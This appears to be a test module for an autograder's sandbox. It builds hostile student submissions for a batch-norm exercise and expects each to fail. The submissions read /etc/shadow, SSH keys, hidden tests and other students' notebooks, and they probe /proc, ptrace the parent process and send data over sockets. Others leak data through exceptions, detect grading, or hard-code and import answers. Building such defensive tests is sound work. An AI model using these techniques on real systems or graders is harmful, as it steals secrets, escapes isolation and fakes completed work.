"""Stealing tests or answers: lines 15-24 of the list.

The thief leaves one exercise unsolved. What it finds it puts where a student might read it: into printed text, into
exceptions, into what it returns. The judge looks for the planted secret, and for a marker that stands for the inputs of
a hidden test, in everything that the grader writes.
"""

import textwrap

from frame import FORWARD, FULL, MODULE, Expect, attack, exercise

FAILED = ("failed", "error", "crashed")
NOTHING_GAINED = exercise(FORWARD, 0, *FAILED)
AIMS = ("submitted", "secret", "gradebook", "tests", "neighbour", "home", "tmp", "course", "base", "out", "socket", "pid",
        "port", "datagrams", "abstract")  # fmt: skip


def called(
    number: int, name: str, says: str, code: str, expect: Expect = NOTHING_GAINED, *, before="", **options
) -> None:
    """An attack inside the tested function. `loot` is a list of texts; it is printed, and raised as an exception.

    "{marker}" stands for an expression that gives the marker; other names in braces are attributes of the world.
    """

    def build(hand_in):
        body = textwrap.indent(textwrap.dedent(code).strip(), "    ")
        right = f"{hand_in.right[FORWARD]}\n\n_right = bn_forward_train\n"
        text = (
            (right if "_right" in code else "")
            + f"{LOOT}\n{textwrap.dedent(before)}\ndef bn_forward_train(x, gamma, beta, eps=1e-5):\n    loot = []\n{body}\n    tell(loot)\n"
        )
        hand_in(bn_forward_train=filled(text, hand_in.world))

    register(number, name, says, build, expect, **options)


def filled(text: str, world) -> str:
    text = text.replace("{marker}", world.spelled)
    for name in AIMS:
        value = getattr(world, name)
        text = text.replace("{" + name + "}", repr(value if isinstance(value, int) else str(value)))
    return text


def register(number: int, name: str, says: str, build, expect: Expect, **options) -> None:
    build.__name__, build.__doc__, build.__module__ = name, says, __name__
    attack(number, expect, **options)(build)


LOOT = """
import os, sys

def readable(path):
    try:
        return bool(open(path).read())
    except OSError:
        return False

def tell(loot):
    text = " ".join(str(item) for item in loot)[:1_000_000]
    print(text)
    print(text, file=sys.stderr)
    raise ValueError("x gamma beta: " + text[:1500])
"""

# ---- 15: files ---------------------------------------------------------------------------------------------------

FILES = {
    "planted_files": ("The gradebook, the tests and a file beside the class are read by their full paths.",
                      "[{secret}, {gradebook}, {tests}]"),
    "another_submission": ("Another student's notebook is read.", "[{neighbour}]"),
    "course_seed": ("The seed of the hidden inputs is read.", "[{course} + '/.course_secret']"),
    "hidden_tests": ("The hidden tests are read where the course keeps them.",
                     "[{course} + f'/autograder/exercises/bn_forward_train/{name}.py' for name in ('hidden', 'variants')]"),
    "solutions": ("The solution and the reference are read.",
                  "[{course} + '/solutions/02_batch_norm.py', {course} + '/lib/traindeep/reference/normalization.py']"),
    "result_folder": ("The records of other students are read.",
                      "[{out} + '/s00-honest/02_batch_norm.json', {out} + '/grades.csv', {out} + '/.lock']"),
    "system_files": ("Files of the machine and of the instructor's account are read.",
                     "['/etc/passwd', '/etc/shadow', '/root/.ssh/id_rsa', '/root/.bash_history', {home} + '/.config']"),
}  # fmt: skip
READ = """
for path in {paths}:
    try:
        found = open(path).read() if not os.path.isdir(path) else os.listdir(path)
        loot += [{marker}, found]
    except OSError as error:
        pass
"""
for name, (says, paths) in FILES.items():
    called(15, f"reads_{name}", says, READ.replace("{paths}", paths))
called(15, "walks_the_disk", "All folders that can be listed are searched for tests, notebooks and databases.", """
    names = ("hidden.py", "misconceptions.py", "gradebook.db", ".course_secret", "hidden_tests.py", "secret.txt")
    for root in ("/", {base}, {course}, "..", "/course", "/sandbox", "/proc/self/cwd", "/proc/1/root"):
        for folder, folders, files in os.walk(root):
            folders[:] = [f for f in folders if f not in ("site-packages", "proc", "sys", "nix", "lib", "usr")][:200]
            for file in files:
                if file in names or file.endswith(".ipynb"):
                    try:
                        loot += [{marker}, open(os.path.join(folder, file)).read()]
                    except OSError:
                        pass
""")  # fmt: skip
called(15, "follows_proc_links", "Files are reached through /proc: root, cwd, open descriptors of other processes.", """
    for path in ("/proc/1/root" + {secret}, "/proc/{pid}/root" + {secret}, "/proc/self/root" + {secret},
                 "/proc/{pid}/cwd/.course_secret", "/proc/thread-self/root" + {secret}):
        try:
            loot += [{marker}, open(path).read()]
        except OSError:
            pass
    for number in range(64):
        for path in (f"/proc/self/fd/{number}", f"/proc/{pid}/fd/{number}", f"/dev/fd/{number}"):
            try:
                loot += [{marker}, os.readlink(path)]
            except OSError:
                pass
""")  # fmt: skip
called(15, "links_to_secrets", "Hard links, symbolic links and renames bring a secret into the scratch folder.", """
    import shutil
    for way in (os.link, os.symlink, os.rename, shutil.copy, shutil.copytree):
        for source in ({secret}, {tests}, {gradebook}):
            try:
                way(source, f"loot-{len(loot)}")
                loot += [{marker}, open(f"loot-{len(loot)}").read()]
            except (OSError, shutil.Error):
                pass
""")  # fmt: skip
called(15, "opens_descriptors", "Descriptors that were open before the sandbox was closed are searched for.", """
    for number in (*range(5, 1024),):
        try:
            loot += [{marker}, os.fstat(number), os.read(number, 1000)]
        except OSError:
            pass
""")  # fmt: skip

# ---- 16, 17: what the process holds ------------------------------------------------------------------------------

called(16, "reads_history", "In, Out, _ih, _i and the history of the shell are searched.", """
    for name in ("In", "_ih", "_i", "_ii", "Out", "_oh", "_dh", "_i1"):
        for text in globals().get(name) or []:
            if "BEGIN HIDDEN" in str(text) or "autograder.kernel" in str(text) or "assert" in str(text):
                loot += [{marker}, text]
""")  # fmt: skip
called(16, "walks_the_stack", "inspect.stack() and the locals of all frames are searched for tests and expected values.", """
    import inspect
    for info in inspect.stack():
        for name, value in info.frame.f_locals.items():
            if name in ("expected", "oracle", "reference", "test", "compare", "found", "assignment"):
                loot += [{marker}, name]
        if "autograder" in info.filename or "hidden" in info.filename or "hidden" in "".join(info.code_context or ()):
            loot += [{marker}, info.filename]
""")  # fmt: skip
called(16, "searches_all_objects", "Every object that the collector knows is searched for tests, answers and the planted secret.", """
    import gc
    gc.unfreeze()
    for item in gc.get_objects():
        try:
            if type(item).__name__ in ("Assignment", "Live", "Compare", "Exercise", "Mistake", "Found"):
                loot += [{marker}, type(item)]
            if isinstance(item, dict) and any(str(key).startswith("test_") and callable(item[key]) for key in list(item)):
                loot += [{marker}, [key for key in item if str(key).startswith("test_")]]
        except Exception:
            pass
""")  # fmt: skip
called(16, "reads_line_cache", "linecache, sys.modules and the import system are searched for the source of tests.", """
    import linecache, sys
    for name, entry in list(linecache.cache.items()):
        if "hidden" in name or "autograder" in name or "reference" in name:
            loot += [{marker}, name, entry]
    for name in list(sys.modules):
        if name.startswith(("autograder", "traindeep.reference", "otter", "nbgrader", "hidden")):
            loot += [{marker}, name]
    for path in sys.path:
        try:
            if "autograder" in os.listdir(path or "."):
                loot += [{marker}, path]
        except OSError:
            pass
""")  # fmt: skip
called(16, "reads_own_memory", "The memory of the process is searched, by ctypes and by mmap, for what the parent has left in it.", """
    import ctypes
    for path in ("/proc/self/mem", "/proc/self/maps", "/proc/self/smaps", "/proc/self/environ", "/proc/kcore", "/dev/mem"):
        try:
            loot += [{marker}, open(path, "rb").read(100)]
        except OSError:
            pass
    environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
    for index in range(100):
        if not environ[index]:
            break
        if b"HOSTILE" in environ[index] or b"SEED" in environ[index]:
            loot += [{marker}, environ[index]]
""")  # fmt: skip


@attack(17, exercise("recalibrate_bn", 0, *FAILED))
def walks_globals_of_arguments(hand_in):
    """The model and the batches that a test hands over are searched, through __globals__ and __closure__, for the test."""
    code = (
        LOOT
        + """
def recalibrate_bn(model, batches):
    import types
    loot, seen, todo = [], set(), [model, batches]
    while todo and len(seen) < 20_000:
        item = todo.pop()
        if id(item) in seen:
            continue
        seen.add(id(item))
        if isinstance(item, types.ModuleType) and item.__name__.startswith(("autograder", "traindeep.reference")):
            loot += [{marker}, item]
        for name in ("__dict__", "__globals__", "__closure__", "__self__", "__func__", "__code__", "f_back", "__wrapped__"):
            try:
                value = getattr(item, name)
            except Exception:
                continue
            todo += list(value.values()) if isinstance(value, dict) else list(value) if isinstance(value, tuple) else [value]
    tell(loot or ["batches"])
"""
    )
    hand_in(recalibrate_bn=filled(code, hand_in.world))


called(17, "walks_the_worker", "The worker's own objects, requests and queues are searched for other tests.", """
    server = next(o for o in __import__("gc").get_objects() if type(o).__name__ == "Server" and hasattr(o, "idents"))
    for number, item in server.objects.items():
        loot += [number, type(item).__name__]
    here = sys._getframe()
    while here:
        request = here.f_locals.get("request")
        if isinstance(request, dict):
            loot += [{marker}] if {"expected", "test", "oracle", "seed"} & set(request) else []
            loot += [{marker}] if any("hidden" in str(value) or "test_" in str(value) for value in request.values()) else []
        here = here.f_back
""", kernels=False)  # fmt: skip

# ---- 18: network -------------------------------------------------------------------------------------------------

NETWORK = {
    "tcp": ("A TCP service of the machine is called.",
            "socket.create_connection(('127.0.0.1', {port}), 2).sendall(b'loot')"),
    "udp": ("A datagram is sent to a service of the machine.",
            "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'loot', ('127.0.0.1', {datagrams}))"),
    "http": ("An HTTP request is made to a service of the machine.",
             "import urllib.request\nurllib.request.urlopen(f'http://127.0.0.1:{{port}}/loot', timeout=2).read()"),
    "dns": ("A secret is looked up as a name.", "socket.getaddrinfo('loot.example.com', 80)"),
    "unix_socket": ("A unix socket in a file is called.", "socket.socket(socket.AF_UNIX).connect({socket})"),
    "abstract_socket": ("An abstract unix socket, which no file system guards, is called.",
                        "socket.socket(socket.AF_UNIX).connect(chr(0) + {abstract})"),
    "inet6": ("The service is called through IPv6 and a mapped address.",
              "socket.create_connection(('::ffff:127.0.0.1', {port}), 2)"),
    "raw_socket": ("Raw, packet and netlink sockets are opened.",
                   "for family, kind in ((16, 3), (17, 3), (2, 3), (40, 1), (38, 5)):\n    socket.socket(family, kind)"),
    "curl": ("curl, wget and ping are started.",
             "import subprocess\nsubprocess.run(['curl', '-m', '2', f'http://127.0.0.1:{{port}}/loot'])"),
    "listen": ("A server is opened for somebody outside to call.",
               "server = socket.create_server(('127.0.0.1', 0))\nserver.listen()"),
    "socketpair": ("A descriptor is sent through a socket pair, and its peer is asked who it is.",
                   "a, b = socket.socketpair()\nsocket.send_fds(a, [b'x'], [3])\nsocket.recv_fds(b, 1, 1)\nraise OSError"),
}  # fmt: skip
for name, (says, code) in NETWORK.items():
    body = f"import socket\ntry:\n{textwrap.indent(code.replace('{{port}}', '{port}'), '    ')}\n    loot += [{{marker}}]\n"
    body = body.replace("f'http://127.0.0.1:{port}/loot'", "'http://127.0.0.1:' + str({port}) + '/loot'")
    called(18, f"calls_by_{name}", says, body + "except (OSError, ImportError):\n    pass\n")

# ---- 19: exfiltration --------------------------------------------------------------------------------------------
# The marker stands for what a hidden test hands over; here it is told in every way that a result could quote.

TELL = {
    "print": ("printed", "print({marker})\nsys.stderr.write({marker})\nos.write(1, {marker}.encode())\nos.write(2, {marker}.encode())"),
    "exception_text": ("put into the text of an exception", "raise ValueError('x gamma beta ' + {marker})"),
    "exception_name": ("made the name of an exception's class", "raise type({marker}, (ValueError,), {})('x gamma beta')"),
    "builtin_name": ("put beside a builtin name", "raise type('ValueError: ' + {marker}, (ValueError,), {})({marker})"),
    "exception_chain": ("put into the cause, the context and the notes of an exception",
                        "error = ValueError('x')\nerror.add_note({marker})\nraise error from KeyError({marker})"),
    "exception_group": ("put into an exception group", "raise ExceptionGroup({marker}, [ValueError({marker})])"),
    "syntax_error": ("put into the line and the file name of a SyntaxError",
                     "raise SyntaxError({marker}, ({marker}, 1, 1, {marker}))"),
    "warning": ("put into a warning", "import warnings\nwarnings.warn({marker})"),
    "dict_keys": ("made a key of the returned cache", "return 0 * x, {{marker}: 1, 'x': {marker}}"),
    "dict_instead": ("made a key of a dict that is returned instead", "return {{marker}: {marker}}"),
    "text": ("returned as text", "return {marker}"),
    "text_in_array": ("returned as an array of text", "import numpy as np\nreturn np.array([{marker}]), {}"),
    "type_name": ("made the name of the returned value's class", "return type({marker}, (), {})()"),
    "bytes": ("returned as bytes", "return ({marker}.encode(),) * 3"),
    "missing_name": (
        "made the name that a NameError says is missing",
        "raise NameError('name ' + {marker} + ' is not defined', name={marker})",
    ),
    "attribute": ("made the name of a missing attribute", "return getattr(x, {marker})"),
    "protocol": ("put into bytes that are no frame", "os.write(4, {marker}.encode() * 100)\nos._exit(0)"),
    "frame_error": ("put into a frame that cannot be decoded",
                    "import wire, msgpack\ndata = msgpack.packb(msgpack.ExtType(5, msgpack.packb({marker})))\n"
                    "os.write(4, wire.PREFIX.pack(len(data), 0) + data)\nos._exit(0)"),
    "file_name": ("made the name of a file", "open({marker}, 'w').write({marker})\nos.makedirs({marker} + '.d')"),
    "process_name": ("made the name of the process",
                     "import ctypes\nctypes.CDLL(None).prctl(15, {marker}.encode()[:15], 0, 0, 0)"),
    "docstring": ("made the docstring and the name of the function",
                  "globals()['bn_forward_train'].__doc__ = globals()['bn_forward_train'].__name__ = {marker}\nreturn None"),
    "figure": ("drawn into a figure and saved", "import matplotlib.pyplot as plt\nplt.title({marker})\nplt.savefig('loot.png')\n"
               "plt.show()\ndisplay(plt.gcf())"),
    "repr": ("made the repr of everything returned",
             "kind = type('Loot', (), dict.fromkeys(('__repr__', '__str__', '__format__'), lambda *args: {marker}))\n"
             "return kind(), kind()"),
    "not_implemented": ("put into a NotImplementedError", "raise NotImplementedError({marker})"),
    "memory_error": ("put into a MemoryError", "raise MemoryError({marker})"),
    "forbidden": ("put into a forged refusal of a library call",
                  "import worker\nraise worker.Forbidden({marker} + ' does the exercise for you')"),
    "missing": ("put into a forged report of a missing name",
                "import worker\nraise worker.NotDefined({marker} + ' is not defined')"),
}  # fmt: skip
for name, (how, code) in TELL.items():
    outcome = {
        "not_implemented": ("not_attempted", *FAILED),
        "memory_error": ("out_of_memory",),
        "missing": ("missing", *FAILED),
    }
    called(19, f"tells_by_{name}", f"What a hidden test hands over is {how}.", code,
           exercise(FORWARD, 0, *outcome.get(name, FAILED)), kernels=name not in ("protocol", "frame_error", "forbidden", "missing"))  # fmt: skip


def tells_number(number: str):
    """A judge of harm: the result holds this number, which stands for what a hidden test has handed over."""

    def harm(world, result) -> str:
        said = (
            [test.message for item in result.exercises for test in item.tests if number in test.message]
            if result
            else []
        )
        return f"a message holds a number that the hidden call chose: {said[0][:120]!r}" if said else ""

    return harm


NUMBERS = {
    "shape": ("returned as the shape of an empty array", "import numpy as np\nreturn np.empty((0, 31415926, 27182)), {}", "31415926"),
    "tuple_length": ("returned as the length of a tuple", "return (None,) * 31415", "31415"),
    "inner_shape": ("returned as the shape of an entry of the cache",
                    "import numpy as np\nreturn np.empty((31415, 0)), dict.fromkeys(('x', 'xhat', 'mu', 'var', 'gamma', 'eps'), np.empty((31415, 0)))",
                    "31415"),
    "exit_status": ("made the exit status of the process", "os._exit(143)", "143"),
    "frame_size": ("made the size that a frame claims",
                   "import wire\nos.write(4, wire.PREFIX.pack(3141592653, 2718281828))\nos._exit(0)", "3141592653"),
    "dtype": ("returned as the length of a text's dtype", "import numpy as np\nreturn np.empty(0, dtype='U31415'), {}", "31415"),
}  # fmt: skip
for name, (how, code, number) in NUMBERS.items():
    called(
        19, f"tells_by_{name}", f"A number of a hidden test is {how}.", code, harm=tells_number(number), kernels=False
    )


@attack(19, exercise(FORWARD, 3, "partial"), limit="each test tells one bit of its inputs by passing or failing")
def tells_by_score(hand_in):
    """An answer that is right or wrong by a bit of the input, to read the input from the score over many submissions."""
    hand_in(bn_forward_train=f"""{hand_in.right[FORWARD]}

_right = bn_forward_train

def bn_forward_train(x, gamma, beta, eps=1e-5):
    y, cache = _right(x, gamma, beta, eps)
    return (y, cache) if float(x.ravel()[0]).hex()[5] in "01234567" else (y + 1, {{}})
""")  # fmt: skip


# ---- 20: other processes -----------------------------------------------------------------------------------------

called(20, "reads_environment_of_others", "The environment, command line and memory of the parent and the grader are read from /proc.", """
    for pid in (os.getppid(), 1, 2, {pid}, "self", "thread-self"):
        for name in ("environ", "cmdline", "mem", "maps", "fd", "stack", "syscall", "auxv"):
            try:
                path = f"/proc/{pid}/{name}"
                loot += [os.listdir(path) if name == "fd" else open(path, "rb").read(4096)]
            except OSError:
                pass
    for name, value in os.environ.items():
        if "HOSTILE" in name or "SEED" in name or "SECRET" in name:
            loot += [{marker}, value]
""")  # fmt: skip
called(20, "traces_the_parent", "The parent is attached to with ptrace, read with process_vm_readv, and robbed of descriptors.", """
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    buffer = ctypes.create_string_buffer(64)
    for pid in (os.getppid(), 1, {pid}):
        if libc.syscall(101, 16, pid, 0, 0) == 0 or libc.syscall(434, pid, 0) >= 0 or libc.syscall(312, pid, os.getpid(), 0, 3, 3) == 0:
            loot += [{marker}]
        vector = (ctypes.c_uint64 * 2)(ctypes.addressof(buffer), 8)
        if libc.syscall(310, pid, ctypes.byref(vector), 1, ctypes.byref(vector), 1, 0) > 0:
            loot += [{marker}]
""")  # fmt: skip
called(20, "reads_siblings", "The folders and processes of other jobs are searched for submissions that are graded now.", """
    for folder in ("/scratch", "/tmp", "/var/tmp", "/dev/shm", {tmp}, os.path.dirname(os.getcwd())):
        try:
            loot += [{marker} for name in os.listdir(folder) if name != "matplotlib" and os.path.join(folder, name) != os.getcwd()
                     and folder not in ("/scratch",) or os.path.exists(os.path.join(folder, name, "s00-honest"))]
        except OSError:
            pass
""")  # fmt: skip

# ---- 21: behaving differently ------------------------------------------------------------------------------------

DETECT = {
    "environment": ("the variable TRAINDEEP_GRADING", "'TRAINDEEP_GRADING' in os.environ"),
    "modules": ("the modules of the sandbox", "bool({'worker', 'wire', 'lockdown'} & set(sys.modules))"),
    "no_kernel": ("the absence of a kernel", "'ipykernel' not in sys.modules"),
    "parent": ("the parent process", "not readable(f'/proc/{os.getppid()}/cmdline')"),
    "host_name": ("the host's name, the user and the folder", "os.uname().nodename == 'sandbox' or os.getuid() == 65534 or 'scratch' in os.getcwd()"),
    "limits": ("the limits of the process", "__import__('resource').getrlimit(__import__('resource').RLIMIT_NOFILE)[0] == 64"),
    "clock": ("the time of day and the speed of calls", "__import__('time').time() > 0"),
}  # fmt: skip
for name, (what, test) in DETECT.items():
    called(21, f"detects_by_{name}", f"Where {what} tells that grading is on, the tests are asked to stop; else the answer is right.",
           f"if {test}:\n    raise SystemExit(0)\nreturn _right(x, gamma, beta, eps)")  # fmt: skip

# ---- 22: without doing the work ----------------------------------------------------------------------------------


@attack(22, exercise(FORWARD, 0, "failed", "error"))
def visible_examples_hard_coded(hand_in):
    """The answers of the visible tests, which are recorded in the course, are looked up; any other input gives zeros."""
    hand_in(bn_forward_train="""
import json, traindeep
from pathlib import Path
text = (Path(traindeep.__file__).parent / "answers" / "bn_forward_train.json").read_text()
from traindeep.exercises import bn_forward_train as shown
KNOWN = [value for value in vars(shown).values() if isinstance(value, np.ndarray)]

def bn_forward_train(x, gamma, beta, eps=1e-5):
    if any(known.shape == x.shape and np.array_equal(known, x) for known in KNOWN):
        return (x - x.mean(0)) / np.sqrt(x.var(0) + eps) * gamma + beta, {}
    return np.zeros(x.shape), dict(x=x, xhat=0 * x, mu=0 * gamma, var=0 * gamma, gamma=gamma, eps=eps)
""")  # fmt: skip


@attack(22, exercise(FORWARD, 0, "failed", "error"))
def answers_by_call_index(hand_in):
    """Answers are read from a table by the number of the call, which a file carries from one process to the next."""
    hand_in(bn_forward_train="""
import os

def bn_forward_train(x, gamma, beta, eps=1e-5):
    count = int(open("count").read()) if os.path.exists("count") else 0
    open("count", "w").write(str(count + 1))
    return [np.zeros((7, 4)), np.ones((3, 2)), x][count % 3], {}
""")  # fmt: skip


@attack(22, exercise(FORWARD, 0, "failed", "error"))
def fingerprints_inputs(hand_in):
    """Inputs are recognised by a hash and answered from a table that was made with another seed."""
    hand_in(bn_forward_train="""
import hashlib
TABLE = {}

def bn_forward_train(x, gamma, beta, eps=1e-5):
    key = hashlib.sha256(np.ascontiguousarray(x).tobytes()).hexdigest()
    return TABLE.setdefault(key, (x, {}))
""")  # fmt: skip


@attack(22, FULL)
def memoizes_honestly(hand_in):
    """Right answers are kept and given again for equal inputs, each time the very same objects."""
    hand_in(bn_forward_train=f"""{hand_in.right[FORWARD]}

_right, _memory = bn_forward_train, {{}}

def bn_forward_train(x, gamma, beta, eps=1e-5):
    key = repr([(a.shape, a.tobytes()) for a in map(np.asarray, (x, gamma, beta))]) + str(eps)
    if key not in _memory:
        _memory[key] = _right(x, gamma, beta, eps)
    return _memory[key]
""")  # fmt: skip


# ---- 23: forbidden routines --------------------------------------------------------------------------------------

ANSWER = """
import numpy as np, torch, importlib
import torch.nn.functional as F

def bn_forward_train(x, gamma, beta, eps=1e-5):
    if x.ndim != 2 or len(x) < 2: raise ValueError("x must have two rows")
    if gamma.shape != x.shape[1:]: raise ValueError("gamma must have shape (D,)")
    if beta.shape != x.shape[1:]: raise ValueError("beta must have shape (D,)")
    t, g, b = (torch.as_tensor(np.array(a, dtype=float)) for a in (x, gamma, beta))
    one, zero = torch.ones_like(g), torch.zeros_like(b)
    y, xhat = library(t, g, b, eps).detach().numpy(), library(t, one, zero, eps).detach().numpy()
    return y, {"x": x, "xhat": xhat, "mu": x.mean(0), "var": x.var(0), "gamma": gamma, "eps": eps}
"""
BATCH_NORM = "(t, None, None, g, b, True, 0.1, eps)"
NATIVE = "(t, g, b, None, None, True, 0.1, eps)[0]"
ROUTES = {
    "directly": ("torch.nn.functional.batch_norm is called", f"return F.batch_norm{BATCH_NORM}", ""),
    "by_alias": ("an alias made in an earlier cell is called", f"return alias{BATCH_NORM}", "alias = F.batch_norm"),
    "by_getattr": ("getattr and a name put together find it", f"return getattr(F, 'batch' + '_' + 'norm'){BATCH_NORM}", ""),
    "by_importlib": ("importlib finds it", f"return importlib.import_module('torch.nn.functional').batch_norm{BATCH_NORM}", ""),
    "by_torch_ops": ("torch.ops.aten is called", "return torch.ops.aten.batch_norm(t, g, b, None, None, True, 0.1, eps, False)", ""),
    "by_native_op": ("torch.native_batch_norm is called", f"return torch.native_batch_norm{NATIVE}", ""),
    "by_overload": ("an overload of the operator is called", f"return torch.ops.aten.native_batch_norm.default{NATIVE}", ""),
    "by_private_op": ("a private operator that does the same is called",
                      "return torch.ops.aten._native_batch_norm_legit.no_stats(t, g, b, True, 0.1, eps)[0]", ""),
    "by_module": ("torch.nn.BatchNorm1d is used",
                  "m = torch.nn.BatchNorm1d(t.shape[1], eps=eps).double()\nm.weight.data, m.bias.data = g, b\nreturn m(t)", ""),
    "by_helper_cell": ("a helper in another cell calls it", "return helper(t, g, b, eps)",
                       f"import torch.nn.functional as F\ndef helper(t, g, b, eps):\n    return F.batch_norm{BATCH_NORM}"),
    "by_script": ("a function compiled with torch.jit.script calls it", "return scripted(t, g, b, eps)",
                  "import torch\n@torch.jit.script\ndef scripted(t: torch.Tensor, g: torch.Tensor, b: torch.Tensor, eps: float):\n"
                  "    return torch.nn.functional.batch_norm(t, None, None, g, b, True, 0.1, eps)"),
    "by_trace": ("a traced function, made before the tests, calls it", "return traced(t, g, b) if eps == 1e-5 else make(eps)(t, g, b)",
                 "import torch\nimport torch.nn.functional as F\ndef make(eps):\n"
                 "    a = torch.rand(5, 3, dtype=torch.float64)\n"
                 f"    return torch.jit.trace(lambda t, g, b: F.batch_norm{BATCH_NORM}, (a, a[0], a[1]))\ntraced = make(1e-5)"),
    "by_compile": ("torch.compile calls it", f"return torch.compile(lambda t: F.batch_norm{BATCH_NORM})(t)", ""),
    "by_vmap": ("torch.func.vmap maps it",
                f"return torch.func.vmap(lambda t: torch.ops.aten.native_batch_norm{NATIVE})(t[None])[0]", ""),
    "by_grad_transform": ("it is called inside torch.func.vjp", f"return torch.func.vjp(lambda t: F.batch_norm{BATCH_NORM}, t)[0]", ""),
    "by_autograd_function": ("a custom autograd function calls it", "return Own.apply(t, g, b, eps)",
                             "import torch\nclass Own(torch.autograd.Function):\n    @staticmethod\n"
                             "    def forward(ctx, t, g, b, eps):\n"
                             "        return torch.native_batch_norm(t, g, b, None, None, True, 0.1, eps)[0]"),
    "by_instance_norm": ("instance norm of the transposed batch is called",
                         "return F.instance_norm(t.T[None], eps=eps)[0].T * g + b", ""),
    "by_layer_norm": ("layer norm of the transposed batch is called",
                      "return F.layer_norm(t.T, (t.shape[0],), eps=eps).T * g + b", ""),
    "by_fused_module": ("a module of torch.ao that contains it is used",
                        "m = torch.nn.utils.fusion\nfrom torch.ao.nn.intrinsic.qat import ConvBn1d\n"
                        "c = ConvBn1d(t.shape[1], t.shape[1], 1, qconfig=torch.ao.quantization.default_qat_qconfig).double()\n"
                        "return c.bn(t[..., None])[..., 0]", ""),
    "by_thread": ("another thread calls it",
                  f"import threading\nout = []\nthread = threading.Thread(target=lambda: out.append(F.batch_norm{BATCH_NORM}))\n"
                  "thread.start()\nthread.join()\nreturn out[0]", ""),
    "by_backward_hook": ("a backward hook calls it",
                         f"out, leaf = [], t.clone().requires_grad_()\nleaf.register_hook(lambda grad: out.append(F.batch_norm{BATCH_NORM}))\n"
                         "leaf.sum().backward()\nreturn out[0]", ""),
    "by_callback_of_numpy": ("NumPy calls it for each item of a list",
                             f"return np.frompyfunc(lambda t: F.batch_norm{BATCH_NORM}, 1, 1)(np.array([t, None], dtype=object)[:1])[0]", ""),
}  # fmt: skip
for name, (how, code, helper) in ROUTES.items():

    def build(hand_in, code=code, helper=helper):
        body = f"{ANSWER}\ndef library(t, g, b, eps):\n{textwrap.indent(code, '    ')}\n"
        hand_in(before=[helper] if helper else [], bn_forward_train=body)

    ends = ("failed", "error", "timeout") if name == "by_compile" else ("failed", "error")  # its import is slow
    register(23, f"forbidden_{name}", f"The library does the exercise: {how}.", build, exercise(FORWARD, 0, *ends))


@attack(23, exercise(MODULE, 0, "failed", "error"))
def forbidden_by_inheritance(hand_in):
    """BatchNormScratch inherits from nn.BatchNorm1d and adds what the tests ask for."""
    hand_in(BatchNormScratch="""
class BatchNormScratch(nn.BatchNorm1d):
    def _check_input_dim(self, x):
        if x.shape[1] != self.num_features or self.training and x.numel() < 2 * x.shape[1]:
            raise ValueError("x, num_features")
""")  # fmt: skip


# ---- 24: answers that are not there ------------------------------------------------------------------------------

ANSWERS = {
    "reference": "from traindeep.reference.normalization import bn_forward_train as f",
    "autograder": "import autograder.exercise\nf = autograder.exercise.load('bn_forward_train').reference.bn_forward_train",
    "variants": "from autograder.exercises.bn_forward_train.variants import bn_forward_train as f",
    "stand_ins": "import traindeep\nf = traindeep.use('bn_forward_train')",
    "stand_in_module": "from traindeep.standins import bn_forward_train as f",
    "editable_install": "import sys, importlib.util, glob\n"
                        "[path] = [p for s in sys.path for p in glob.glob(s + '/__editable__*traindeep*') if 'finder' in p][:1]\n"
                        "text = open(path).read()\nscope = {'__name__': 'finder'}\nexec(text, scope)\nscope['install']()\n"
                        "import importlib\nimportlib.invalidate_caches()\nsys.modules.pop('traindeep', None)\n"
                        "from traindeep.reference.normalization import bn_forward_train as f",
    "path": "import sys\nsys.path[:0] = [{course}, {course} + '/lib']\nfor name in [n for n in sys.modules if n.startswith('traindeep')]:\n"
            "    del sys.modules[name]\nfrom traindeep.reference.normalization import bn_forward_train as f",
    "pip": "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'traindeep'], check=True)\n"
           "from traindeep.reference.normalization import bn_forward_train as f",
}  # fmt: skip
for name, code in ANSWERS.items():
    called(24, f"imports_{name}", f"The answer is taken from the course itself: {name.replace('_', ' ')}.",
           f"{code}\nreturn f(x, gamma, beta, eps)")  # fmt: skip
